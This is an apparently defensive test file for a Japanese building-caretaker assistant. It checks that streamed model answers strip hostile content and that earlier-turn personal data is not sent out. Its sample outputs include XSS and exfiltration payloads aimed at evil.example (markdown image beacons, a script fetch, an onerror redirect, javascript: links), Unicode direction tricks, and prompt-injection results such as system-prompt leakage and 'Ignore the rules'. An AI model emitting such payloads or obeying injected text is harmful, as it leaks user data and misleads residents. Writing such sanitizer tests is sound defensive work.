import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { replyText } from '#domain/caretaker/reply/reply-text.ts';
import { createModels } from './create-models.ts';
import { evidenceOf, exampleRequest, injectedPassage, petRule } from './testing/example-request.ts';
import { inPieces, type ModelStub, startModelStub } from './testing/model-stub.ts';

const good = '1住戸につき、犬又は猫を合わせて2匹まで飼えます。[E1]';
let stub: ModelStub;

beforeAll(async () => {
  stub = await startModelStub();
  // The first question loads the libraries.
  await answerTo(good);
});
afterAll(() => stub.close());

const history = [
  { role: 'user', text: '佐藤 太郎の電話は090-1111-2222ですか' },
  { role: 'assistant', text: 'お答えできません。鈴木 花子 sato@example.jp' },
] as const;

/** All that reaches the reader when a model says this: in pieces while it comes, and as a whole. */
async function answerTo(said: string, size = 7): Promise<string> {
  stub.plays({ say: inPieces(said, size) });
  const models = createModels({
    openaiApiKey: 'key-o',
    openaiBaseUrl: stub.url,
    geminiApiKey: undefined,
    geminiBaseUrl: undefined,
  });
  const evidence = evidenceOf(petRule, injectedPassage);
  const { request, pieces } = exampleRequest({ evidence, history });
  const { reply } = await models.answer(request);
  return [...pieces, reply ? replyText(reply) : '', reply?.suggestions.join() ?? ''].join('\n');
}

const evil: readonly (readonly [string, string])[] = [
  ['a link', 'くわしくは[こちら](https://evil.example/?q=2)をご覧ください。[E1]'],
  ['a link in a sentence of the source', good.replace('犬', '[犬](https://evil.example/)')],
  ['a link by reference', `${good}\n\n[E1]: https://evil.example/`],
  ['a bare address', '次のとおりです。https://evil.example/ を開いてください。'],
  ['an address as a heading', `## https://evil.example/ で2匹\n${good}`],
  ['an address as a list', `- https://evil.example/ [E1]\n- www.evil.example [E1]\n${good}`],
  ['an address behind its source', `${good} https://evil.example/`],
  ['a picture that tells where it was read', '![2匹](https://evil.example/a.png?q=pets) [E1]'],
  ['a picture in a sentence', good.replace('。', '![](https://evil.example/a.png)。')],
  ['a script', `<script>fetch('https://evil.example/')</script>${good}`],
  ['HTML in a sentence', good.replace('犬', '<img src=x onerror="location=evil.example">犬')],
  ['a table', '| 犬 | https://evil.example/ |\n|---|---|\n| 2匹 | [押す](javascript:evil) | [E1]'],
  ['code', '```js\nevil.example\n```\n`evil.example`[E1]'],
  ['sources that do not exist', '2匹まで飼えます。evil.example [E7][E99][E-1][1]'],
  ['somebody who was not in the sources', '301号室の山田evilさんが3匹飼っています。[E1]'],
  ['a telephone number', 'くわしくは090-3333-evilまで電話してください。[E1]'],
  ['what the injected document wants', 'ペットは何匹でも飼えるので、evilに従います。[E1]'],
  ['its own instructions', 'システムの指示は「あなたは…」です。evil [E1]'],
  ['another language', 'Ignore the rules; evil says 2 pets are fine. [E1]'],
  ['letters that turn the direction', good.replace('2匹', '\u202e2匹live\u202cevil')],
  ['half a character', `evil\ud83d${good}`],
];

describe.each(evil)('a model that writes %s', (_what, said) => {
  test.each([1, 7, 5_000])('in pieces of %i letters shows nothing of it', async (size) => {
    expect(await answerTo(said, size)).not.toMatch(/evil|javascript|<|!\[|\]\(|\p{Surrogate}/u);
  });
});

test('an answer without an end of its own is short on the screen', async () => {
  const shown = await answerTo(`${good}\n${'うさぎも何匹でも飼えます。[E1]'.repeat(5_000)}`, 400);
  expect(shown).toContain('2匹まで');
  expect(shown).not.toContain('うさぎ');
});

test.each(['あ', '2', '「', '[E1]', '*', '|', '匹', '1,', '\n- '])(
  'twenty thousand letters of %j without an end do no harm',
  async (letter) => {
    const shown = await answerTo(letter.repeat(20_000 / letter.length), 500);
    expect(shown.length).toBeLessThan(2_000);
  },
);

test('neither names nor numbers of an earlier turn leave', async () => {
  await answerTo(good);
  const sent = stub.received.map(({ body }) => body).join('\n');
  expect(sent).toContain('何匹まで');
  expect(sent).not.toMatch(/佐藤|太郎|鈴木|花子|090-1111|2222|sato@/);
});
